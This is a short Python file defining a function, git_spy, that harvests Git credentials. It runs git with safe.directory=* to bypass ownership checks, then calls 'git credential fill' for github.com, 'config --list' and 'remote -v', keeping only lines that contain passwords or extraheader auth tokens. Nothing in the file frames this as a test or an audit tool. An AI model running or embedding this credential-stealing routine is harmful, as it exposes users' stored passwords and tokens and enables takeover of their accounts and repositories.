import subprocess
from typing import Any


def git_spy(given: dict[str, Any]) -> list[str]:
    """What git would tell anybody who asks in the right folder."""
    found = []
    for words in (["config", "--list"], ["credential", "fill"], ["remote", "-v"]):
        done = subprocess.run(
            ["git", "-c", "safe.directory=*", *words],
            cwd="/",
            env={"GIT_DIR": given["REPOSITORY"] + "/.git", "HOME": given["HOME"], "PATH": "/usr/bin:/bin"},
            input="protocol=https\nhost=github.com\n\n",
            capture_output=True,
            text=True,
            check=False,
        )
        found += [line for line in done.stdout.splitlines() if "password=" in line or "extraheader" in line]
    return found
